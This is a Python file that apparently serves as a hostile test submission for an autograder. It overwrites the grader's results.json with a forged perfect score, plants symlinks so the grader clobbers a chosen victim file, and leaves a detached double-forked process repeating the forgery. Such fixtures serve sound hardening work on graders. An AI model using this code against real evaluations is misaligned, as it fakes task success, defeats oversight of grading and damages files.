# where: top
# base: stub
# needs: targets
# out: private, tmp
# costs: its file
# checks: 2
# -- hostile: forged_results: writes its own results.json wherever the grader might read one,
#    plants links for the grader to write through, and leaves a process behind to do it
#    again every 0.1 s for 6 s. targets.json (written by the test) names the grader's
#    --out path and a file the student would like the grader to clobber.
def _hostile_forge_results():
    import json as _json
    import os as _os
    import time as _time

    forged = _json.dumps({"score": 100, "execution_time": 0, "output": "forged", "tests": [
        {"name": "forged", "score": 100, "max_score": 100, "status": "passed", "output": "forged"}]})
    try:
        with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "targets.json")) as stream:
            targets = _json.load(stream)
    except (OSError, ValueError):
        targets = {"results": [], "victim": None}

    def forge():
        tried = []
        for path in targets["results"] + ["/autograder/results/results.json", "results.json"]:
            try:
                with open(path, "w") as stream:
                    stream.write(forged)
                tried.append(f"wrote {path}")
            except OSError as error:
                tried.append(f"could not write {path}: {error.strerror}")
            if targets.get("victim"):
                for bait in (path + ".partial", _os.path.join(_os.path.dirname(path) or ".", ".results.json.partial")):
                    try:
                        _os.symlink(targets["victim"], bait)
                        tried.append(f"planted {bait}")
                    except OSError as error:
                        tried.append(f"could not plant {bait}: {error.strerror}")
        return tried

    print("\n".join(forge()))
    child = _os.fork()  # a grandchild in a session of its own forges again and again
    if child == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(60):
                _time.sleep(0.1)
                forge()
        _os._exit(0)
    _os.waitpid(child, 0)


_hostile_forge_results()
